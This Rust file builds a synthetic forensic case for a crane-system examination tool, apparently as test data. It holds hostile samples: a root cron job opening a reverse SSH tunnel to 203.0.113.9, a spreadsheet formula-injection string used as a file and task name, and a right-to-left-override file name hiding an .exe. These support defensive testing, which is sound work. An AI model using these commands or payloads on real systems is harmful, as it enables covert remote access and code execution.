//! A filled case without any image behind it: two systems, thousands of rows, findings of every severity,
//! gaps, reviews, and names that are Chinese, broken, or made to mislead.
#![allow(clippy::needless_update)] // a table may gain columns
#![allow(clippy::cast_possible_truncation, clippy::cast_possible_wrap, clippy::cast_sign_loss)] // small counts
use cranescope::base::{Digest, Evidence, FsId, Gap, ImageRun, Name, NodeId, PieceKind, Place, Run as Bytes, Time};
use cranescope::case::{CaseData, Device as CraneDevice, Exhibit, Outcome, Run, Scope, Tool, Verdict};
use cranescope::inventory::*;
use cranescope::judge::*;

/// 2025-03-01T08:00:00Z, and `hours` later.
fn at(hours: i64) -> Time {
    Time::seconds(1_740_816_000 + hours * 3600)
}
fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(ToString::to_string).collect()
}

pub(crate) fn evidence(path: &str, line: u32, excerpt: &str) -> Evidence {
    let number = 120_000 + path.bytes().map(u64::from).sum::<u64>();
    let offset = 1_048_576 + number * 4096;
    Evidence {
        filesystem: FsId(0),
        path: Name::from(path),
        node: NodeId { number, generation: 1 },
        sha256: Some(Digest([number.to_le_bytes()[0]; 32])),
        range: Some(Bytes::new(64, excerpt.len().max(16) as u64)),
        image_runs: vec![ImageRun {
            image: 0,
            file_offset: 64,
            offset: offset + 64,
            len: excerpt.len().max(16) as u64,
            kind: PieceKind::Stored,
        }],
        line: Some(line),
        excerpt: Some(excerpt.to_owned()),
        ..Evidence::default()
    }
}

fn finding(severity: Severity, category: Category, rung: Option<Rung>, title: &str, subject: &str) -> Finding {
    Finding {
        id: cranescope::base::short_id("f", &[title.as_bytes(), subject.as_bytes()]),
        rule: title.to_lowercase().replace(' ', "-"),
        title: title.to_owned(),
        severity,
        conformity: Conformity::NoPolicy,
        category,
        rung,
        confidence: Confidence::High,
        system: Some(0),
        subject: subject.to_owned(),
        observed: format!(
            "{subject} is set up in the configuration and started at boot by a unit that no package owns."
        ),
        supports: "That the machine is able to open a link to the outside without anyone at the console.".to_owned(),
        does_not_show:
            "Whether the link was ever used, by whom, and for what; the logs of that time are not on this disk."
                .to_owned(),
        ordinary_explanations: "Remote maintenance that was agreed with the operator; a left-over of commissioning."
            .to_owned(),
        check: format!("debugfs -R 'stat {subject}' disk.img\nsystemctl --root=/mnt list-unit-files | grep -F enabled"),
        attack: strings(&["T1219", "T1572"]),
        baseline: BaselineVerdict { verdict: Standing::Unknown, by: "delivery 2024-11".to_owned() },
        evidence: vec![
            evidence(subject, 7, "ExecStart=/usr/local/bin/netd -c /etc/netd.toml"),
            evidence("/var/log/syslog", 1204, "Mar  1 08:14:02 cms-03 pppd[881]: local  IP address 10.64.11.7"),
        ],
        reviews: Vec::new(),
    }
}

fn findings() -> Vec<Finding> {
    use Category::*;
    use Severity::*;
    let mut all = vec![
        finding(Critical, RemoteAccess, Some(Rung::Used), "Tunnel client under another name", "/usr/local/bin/netd"),
        finding(Critical, Modem, Some(Rung::Used), "Cellular connection was used", "岸桥远程维护"),
        finding(High, Modem, Some(Rung::Enabled), "Dial-up peer comes up at boot", "/etc/ppp/peers/gprs"),
        finding(High, Integrity, None, "File differs from its package", "/usr/sbin/sshd"),
        finding(High, Account, None, "Key of root from an unknown source", "root SHA256:9nVxQ1m3k5p7"),
        finding(High, Persistence, None, "Timed command opens a reverse connection", "/etc/cron.d/sync"),
        finding(Medium, Modem, Some(Rung::Configured), "Driver loaded for a WWAN device", "option"),
        finding(Medium, Configuration, None, "sshd accepts root with a password", "PermitRootLogin yes"),
        finding(Medium, Network, None, "Forwarding between interfaces", "net.ipv4.ip_forward=1"),
        finding(Low, Account, None, "Account without password expiry", "crane"),
    ];
    for n in 0..14 {
        let subject = format!("/lib/modules/6.1.0-18-amd64/kernel/drivers/net/wwan/driver_{n}.ko");
        all.push(finding(Info, Modem, Some(Rung::Capable), "Modem driver of the stock kernel", &subject));
    }
    all[3].reviews.push(Review {
        examiner: "王丽 (examiner 2)".to_owned(),
        disposition: "confirmed".to_owned(),
        note: "Compared with the package of the snapshot server: 212 bytes differ in .text.".to_owned(),
        at: at(90_000),
    });
    all[2].evidence.push(Evidence { deleted: true, ..evidence("/etc/ppp/chat/\u{202e}gsm", 3, "ATD*99#") });
    all
}

fn system(hostname: &str, id: &str) -> SystemInfo {
    SystemInfo {
        id: id.to_owned(),
        os: OsInfo {
            family: "linux".to_owned(),
            id: "debian".to_owned(),
            version: "12".to_owned(),
            name: "Debian GNU/Linux 12 (bookworm)".to_owned(),
        },
        hostname: hostname.to_owned(),
        machine_id: "4f1c0a9be2d94f0e8c5f6b7a1d2e3f40".to_owned(),
        architecture: "x86-64".to_owned(),
        kernels: strings(&["6.1.0-18-amd64", "6.1.0-13-amd64"]),
        installed: Some(at(-9000)),
        timezone: "Asia/Shanghai".to_owned(),
        clone_signs: strings(&["machine-id is older than the installation by 211 days"]),
        logs: LogWindow {
            first: Some(at(-2000)),
            last: Some(at(3000)),
            gaps: vec![(at(-400), at(-310)), (at(1000), at(1100))],
            volatile: false,
        },
        package_database: "dpkg".to_owned(),
        ..SystemInfo::default()
    }
}

fn scene() -> Scene {
    let disk = 500_107_862_016;
    let image = |n: u32, path: &str| ImageInfo {
        id: format!("image-{n}"),
        path: path.to_owned(),
        container: "raw".to_owned(),
        size: disk,
        segments: strings(&[path]),
        sha256: Some("9f".repeat(32)),
        stored_hashes: vec![StoredHash {
            algorithm: "SHA-256".to_owned(),
            stored: "9f".repeat(32),
            computed: Some("9f".repeat(32)),
            matches: Some(n == 0),
        }],
        bytes: BytesRead {
            read: 64_424_509_440,
            zero: 310_000_000_000,
            encrypted: 42_949_672_960,
            unreadable: 1_048_576,
            unallocated: 80_000_000_000,
            unparsed: 2_732_631_040,
        },
    };
    Scene {
        images: vec![image(0, "/evidence/2025-031/cms-03.raw"), image(1, "/evidence/2025-031/gateway-03.001")],
        volumes: vec![VolumeInfo {
            id: "volume-2".to_owned(),
            index: 3,
            type_name: "Linux LUKS".to_owned(),
            size: 42_949_672_960,
            state: VolumeState::Encrypted,
            ..VolumeInfo::default()
        }],
        filesystems: vec![FilesystemInfo {
            id: "fs-0".to_owned(),
            kind: "ext4".to_owned(),
            label: "root".to_owned(),
            ..Default::default()
        }],
        systems: vec![system("cms-03", "system-0"), system("gw-03", "system-1")],
    }
}

/// Tables with thousands of rows.
fn inventory() -> Inventory {
    let mut i = Inventory::default();
    files(&mut i);
    programs(&mut i);
    network(&mut i);
    drivers_and_packages(&mut i);
    people(&mut i);
    i.sort();
    i
}

fn files(i: &mut Inventory) {
    let special: [&[u8]; 5] = [
        "/opt/岸桥管理系统/配置/远程维护.conf".as_bytes(),
        b"/opt/\xb0\xb6\xc7\xc5/start.sh",
        "/home/crane/report\u{202e}fdp.exe".as_bytes(),
        b"/tmp/=cmd|' /C calc'!A0",
        b"/usr/share/doc/a-very-long-directory-name-that-goes-on/and-on/until-the-middle-of-the-path/has-to-be-left-out/changelog.Debian.gz",
    ];
    let mut add = |path: Name, n: u64| {
        let unowned = n.is_multiple_of(97) || n >= 5000;
        i.push(
            File {
                system: Some(u32::from(n.is_multiple_of(5))),
                path: path.clone(),
                kind: if n.is_multiple_of(23) { "symlink" } else { "file" }.into(),
                size: n * n * 37 % 9_000_000,
                allocated: (n * n * 37 % 9_000_000).div_ceil(4096) * 4096,
                mode: Mode(if n.is_multiple_of(50) { 0o4755 } else { 0o644 }),
                links: 1,
                modified: Some(at(n as i64 % 4000 - 2000)),
                content: "text".into(),
                sha256: Some(Digest([(n % 251) as u8; 32])),
                package: (!unowned).then(|| "coreutils".into()),
                package_check: if unowned { "unowned" } else { "ok" }.into(),
                deleted: n.is_multiple_of(400),
                evidence: Evidence { line: None, excerpt: None, ..evidence(&path.display(), 1, "") },
                ..File::default()
            }
            .into(),
        );
    };
    for n in 0..5000 {
        add(Name::from(format!("/usr/lib/x86_64-linux-gnu/part-{:02}/libcrane-{n}.so.{}", n % 40, n % 7)), n);
    }
    for (n, path) in special.into_iter().enumerate() {
        add(Name::new(path), 5000 + n as u64);
    }
    add(Name::from("/usr/local/bin/netd"), 5011);
}

fn programs(i: &mut Inventory) {
    for n in 0..600_u32 {
        i.push(
            Binary {
                system: Some(0),
                path: format!("/usr/bin/tool-{n}").into(),
                format: "elf".into(),
                kind: "executable".into(),
                machine: "x86-64".into(),
                bits: 64,
                static_linked: n.is_multiple_of(90),
                libraries: strings(&["libc.so.6", "libcrypto.so.3"]),
                build_id: format!("{n:040x}"),
                stripped: true,
                go_version: if n.is_multiple_of(90) { "go1.21.5".to_owned() } else { String::new() },
                traces: if n == 90 { strings(&["frp: frpc.toml"]) } else { Vec::new() },
                evidence: evidence(&format!("/usr/bin/tool-{n}"), 1, ""),
                ..Binary::default()
            }
            .into(),
        );
    }
    for n in 0..180_u32 {
        let name = if n == 7 { "netd.service".to_owned() } else { format!("unit-{n:03}.service") };
        let program = if n == 7 {
            "/usr/local/bin/netd".to_owned()
        } else {
            format!("/usr/lib/x86_64-linux-gnu/part-{:02}/libcrane-{n}.so.{}", n % 40, n % 7)
        };
        i.push(
            Service {
                system: Some(u32::from(n.is_multiple_of(5) && n != 7)),
                name: name.clone(),
                manager: "systemd".into(),
                kind: "service".into(),
                description: "Service of the crane management system 岸桥".to_owned(),
                state: if n.is_multiple_of(3) || n == 7 { "enabled" } else { "static" }.into(),
                enabled: n.is_multiple_of(3) || n == 7,
                enabled_by: strings(&["multi-user.target.wants"]),
                commands: vec![format!("ExecStart={program} --daemon")],
                program: Some(program.into()),
                restart: "always".into(),
                evidence: evidence(&format!("/etc/systemd/system/{name}"), 4, "ExecStart="),
                ..Service::default()
            }
            .into(),
        );
    }
    i.push(
        Task {
            system: Some(0),
            name: "/etc/cron.d/sync".to_owned(),
            manager: "cron".into(),
            schedule: "*/10 * * * *".to_owned(),
            user: "root".to_owned(),
            command: "ssh -N -R 2222:localhost:22 relay@203.0.113.9".to_owned(),
            program: Some("/usr/bin/ssh".into()),
            enabled: true,
            evidence: evidence("/etc/cron.d/sync", 3, "*/10 * * * * root ssh -N -R"),
            ..Task::default()
        }
        .into(),
    );
    i.push(
        Task {
            system: Some(0),
            name: "=cmd|' /C calc'!A0".to_owned(),
            manager: "cron".into(),
            schedule: "@reboot".to_owned(),
            user: "-1".to_owned(),
            command: "+1".to_owned(),
            program: None,
            enabled: false,
            evidence: evidence("/var/spool/cron/crontabs/crane", 1, "@reboot"),
            ..Task::default()
        }
        .into(),
    );
}

fn network(i: &mut Inventory) {
    for (n, (name, kind)) in
        [("eth0", "ethernet"), ("eth1", "ethernet"), ("wwan0", "wwan"), ("ppp0", "ppp")].iter().enumerate()
    {
        i.push(
            Interface {
                system: Some(0),
                name: (*name).to_owned(),
                manager: "ifupdown".into(),
                kind: (*kind).into(),
                method: "static".to_owned(),
                addresses: vec![format!("10.20.{n}.3/24")],
                auto: true,
                evidence: evidence("/etc/network/interfaces", 4 + n as u32, "auto eth0"),
                ..Interface::default()
            }
            .into(),
        );
    }
    for (name, kind, enabled) in [
        ("岸桥远程维护", "gsm", true),
        ("gprs", "ppp-modem", true),
        ("office", "wireguard", false),
        ("frpc", "tunnel", true),
    ] {
        i.push(
            Connection {
                system: Some(0),
                name: name.to_owned(),
                manager: "networkmanager".into(),
                kind: kind.into(),
                enabled,
                enabled_by: strings(&["autoconnect"]),
                apn: if kind == "gsm" { "cmnet".to_owned() } else { String::new() },
                endpoints: if kind == "tunnel" { strings(&["203.0.113.9:7000"]) } else { Vec::new() },
                last_used: enabled.then(|| at(2900)),
                secrets: strings(&["password"]),
                evidence: evidence("/etc/NetworkManager/system-connections/maint.nmconnection", 2, "type=gsm"),
                ..Connection::default()
            }
            .into(),
        );
    }
    i.push(
        Route {
            system: Some(0),
            destination: "0.0.0.0/0".to_owned(),
            gateway: "10.20.0.1".to_owned(),
            interface: "eth0".to_owned(),
            manager: "ifupdown".into(),
            evidence: evidence("/etc/network/interfaces", 9, "gateway"),
            ..Route::default()
        }
        .into(),
    );
    i.push(
        NameSetting {
            system: Some(0),
            kind: "nameserver".into(),
            value: "10.20.0.1".to_owned(),
            scope: "eth0".to_owned(),
            evidence: evidence("/etc/resolv.conf", 1, "nameserver 10.20.0.1"),
            ..NameSetting::default()
        }
        .into(),
    );
    for n in 0..40 {
        i.push(
            FirewallRule {
                system: Some(0),
                manager: "nftables".into(),
                table: "inet filter".to_owned(),
                chain: "input".to_owned(),
                rule: format!("tcp dport {} accept", 8000 + n),
                action: "accept".into(),
                evidence: evidence("/etc/nftables.conf", 10 + n, "tcp dport"),
                ..FirewallRule::default()
            }
            .into(),
        );
    }
    i.push(
        Listener {
            system: Some(0),
            protocol: "tcp".into(),
            address: "*".to_owned(),
            port: "22".to_owned(),
            program: "sshd".to_owned(),
            service: "unit-003.service".to_owned(),
            evidence: evidence("/etc/ssh/sshd_config", 13, "Port 22"),
            ..Listener::default()
        }
        .into(),
    );
}

fn drivers_and_packages(i: &mut Inventory) {
    for n in 0..2400_u32 {
        let path = format!("/lib/modules/6.1.0-18-amd64/kernel/drivers/group-{}/driver_{n}.ko", n % 30);
        i.push(
            Driver {
                system: Some(0),
                name: format!("driver_{n}").into(),
                kernel: "6.1.0-18-amd64".into(),
                path: path.as_str().into(),
                intree: (!n.is_multiple_of(800)).then_some(true),
                license: "GPL".into(),
                description: "USB driver for WWAN modems".to_owned(),
                outside: n.is_multiple_of(800),
                aliases: n % 60,
                evidence: evidence(&path, 1, ""),
                ..Driver::default()
            }
            .into(),
        );
    }
    i.push(
        DriverSetting {
            system: Some(0),
            name: "option".to_owned(),
            action: "load".into(),
            value: String::new(),
            evidence: evidence("/etc/modules-load.d/wwan.conf", 1, "option"),
            ..DriverSetting::default()
        }
        .into(),
    );
    i.push(
        Device {
            system: Some(0),
            bus: "usb".into(),
            vendor: "2c7c".to_owned(),
            product: "0125".to_owned(),
            name: "EC25 LTE modem".to_owned(),
            node: "ttyUSB2".to_owned(),
            source: "log".into(),
            first_seen: Some(at(10)),
            last_seen: Some(at(2900)),
            count: 41,
            evidence: evidence("/var/log/syslog", 88, "idVendor=2c7c"),
            ..Device::default()
        }
        .into(),
    );
    for n in 0..900_u32 {
        i.push(
            Package {
                system: Some(0),
                name: format!("package-{n}").into(),
                version: format!("1.{}-{}", n % 20, n % 5),
                architecture: "amd64".into(),
                manager: "dpkg".into(),
                state: "install ok installed".to_owned(),
                section: "admin".to_owned(),
                maintainer: "Debian Maintainers <team@example.org>".to_owned(),
                automatic: Some(!n.is_multiple_of(4)),
                installed: Some(at(-9000)),
                files: u64::from(n % 300),
                listed: u64::from(n % 300),
                matching: u64::from(n % 300),
                differing: if n == 12 { strings(&["/usr/sbin/sshd"]) } else { Vec::new() },
                evidence: evidence("/var/lib/dpkg/status", n * 12 + 1, "Package:"),
                ..Package::default()
            }
            .into(),
        );
    }
}

fn people(i: &mut Inventory) {
    for (n, name) in ["root", "crane", "维护", "daemon", "www-data", "sshd"].iter().enumerate() {
        i.push(
            Account {
                system: Some(0),
                name: (*name).to_owned(),
                uid: [0, 1000, 1001, 1, 33, 105][n],
                home: "/root".into(),
                shell: if n < 3 { "/bin/bash" } else { "/usr/sbin/nologin" }.to_owned(),
                password: if n < 3 { "yescrypt" } else { "disabled" }.into(),
                login: n < 3,
                groups: if n == 1 { strings(&["sudo"]) } else { Vec::new() },
                evidence: evidence("/etc/passwd", n as u32 + 1, "root:x:0:0"),
                ..Account::default()
            }
            .into(),
        );
        i.push(
            Group {
                system: Some(0),
                name: (*name).to_owned(),
                gid: n as u32,
                members: Vec::new(),
                evidence: evidence("/etc/group", n as u32 + 1, "root:x:0:"),
                ..Group::default()
            }
            .into(),
        );
    }
    i.push(
        SudoRule {
            system: Some(0),
            who: "%sudo".to_owned(),
            hosts: "ALL".to_owned(),
            runas: "ALL".to_owned(),
            commands: "ALL".to_owned(),
            nopasswd: true,
            evidence: evidence("/etc/sudoers", 51, "%sudo ALL=(ALL:ALL) NOPASSWD: ALL"),
            ..SudoRule::default()
        }
        .into(),
    );
    i.push(
        Key {
            system: Some(0),
            kind: "authorized".into(),
            user: "root".to_owned(),
            algorithm: "ssh-ed25519".to_owned(),
            fingerprint: "SHA256:9nVxQ1m3k5p7".to_owned(),
            comment: "maint@vendor".to_owned(),
            evidence: evidence("/root/.ssh/authorized_keys", 1, "ssh-ed25519 AAAA"),
            ..Key::default()
        }
        .into(),
    );
    i.push(
        Setting {
            system: Some(0),
            program: "sshd".into(),
            name: "PermitRootLogin".to_owned(),
            value: "yes".to_owned(),
            effective: true,
            evidence: evidence("/etc/ssh/sshd_config", 33, "PermitRootLogin yes"),
            ..Setting::default()
        }
        .into(),
    );
    for n in 0..1500_i64 {
        let clock = n % 500 == 0;
        i.push(
            Event {
                system: Some(0),
                time: Some(at(n * 2 - 1500)),
                kind: if clock { "clock-step" } else { "pppd-address" }.into(),
                class: if clock { "clock" } else { "modem-use" }.into(),
                program: "pppd".to_owned(),
                text: if clock {
                    "System clock was stepped by 31536000 s".to_owned()
                } else {
                    format!("local  IP address 10.64.11.{}", n % 250)
                },
                count: (n % 9) as u32 + 1,
                evidence: evidence("/var/log/syslog", n as u32 + 1, "pppd[881]"),
                ..Event::default()
            }
            .into(),
        );
    }
}

fn gaps() -> Vec<Gap> {
    let gap = |path: &str, by: &str, what: &str, bytes| Gap {
        at: Place {
            image: Some(0),
            volume: Some(2),
            filesystem: Some(FsId(0)),
            path: Some(path.into()),
            inode: Some(77),
            offset: Some(("image_offset".to_owned(), 9_437_184)),
        },
        by: by.to_owned(),
        what: what.to_owned(),
        bytes,
    };
    let mut all = vec![
        gap("/", "volume", "LUKS volume: no key was given", 42_949_672_960),
        gap("/var/log/journal/4f1c/system.journal", "journal", "entry array ends beyond the file", 4096),
        gap("/opt/岸桥管理系统/data.db", "ext", "checksum of the extent block differs", 4096),
    ];
    all.extend((0..30).map(|n| gap(&format!("/srv/data/part-{n}"), "read", "read error at the source", 65_536)));
    all
}

/// The filled case.
pub(crate) fn rich() -> CaseData {
    CaseData {
        run: Run {
            started: Some(at(9000)),
            finished: Some(at(9001)),
            host: "lab-2".to_owned(),
            examiner: "王丽".to_owned(),
            ..Run::default()
        },
        tool: Tool { name: "cranescope".to_owned(), version: "0.1.0".to_owned(), rules: 34, ..Tool::default() },
        scope: Scope {
            crane: "QC-07 岸桥".to_owned(),
            devices: vec![
                CraneDevice {
                    id: "CMS".to_owned(),
                    role: "crane management".to_owned(),
                    named_by: "intake".to_owned(),
                    exhibits: strings(&["E1"]),
                },
                CraneDevice {
                    id: "GW".to_owned(),
                    role: "gateway".to_owned(),
                    named_by: "intake".to_owned(),
                    exhibits: strings(&["E2"]),
                },
            ],
            exhibits: vec![
                Exhibit {
                    id: "E1".to_owned(),
                    device: "CMS".to_owned(),
                    images: strings(&["image-0"]),
                    seal: "A-10553".to_owned(),
                    serial: "S4EVNX0N".to_owned(),
                    label_bytes: Some(500_107_862_016),
                    write_blocker: "T35u".to_owned(),
                    acquisition_log: "cms-03.log".to_owned(),
                },
                Exhibit {
                    id: "E2".to_owned(),
                    device: "GW".to_owned(),
                    images: strings(&["image-1"]),
                    label_bytes: Some(512_110_190_592),
                    ..Exhibit::default()
                },
            ],
        },
        scene: scene(),
        inventory: inventory(),
        findings: findings(),
        searched: (0..34)
            .map(|n| Searched {
                rule: format!("rule-{n:02}"),
                inputs: format!("{} services, 5006 files", n * 31),
                hits: n % 3,
            })
            .collect(),
        unexamined: vec![Unexamined {
            device: "PLC 10.20.0.50".to_owned(),
            named_by: evidence("/etc/hosts", 7, "10.20.0.50 plc-hoist"),
        }],
        gaps: gaps(),
        verdict: Verdict { result: Outcome::NotAssessed, policy: String::new(), reasons: Vec::new() },
    }
}

/// Bytes as a preview would bring them.
pub(crate) fn bytes(offset: u64, len: usize) -> Vec<u8> {
    let text =
        b"[Unit]\nDescription=network daemon\n[Service]\nExecStart=/usr/local/bin/netd -c /etc/netd.toml\n\0\0\0\0";
    (0..len).map(|i| text[(offset as usize + i) % text.len()]).collect()
}
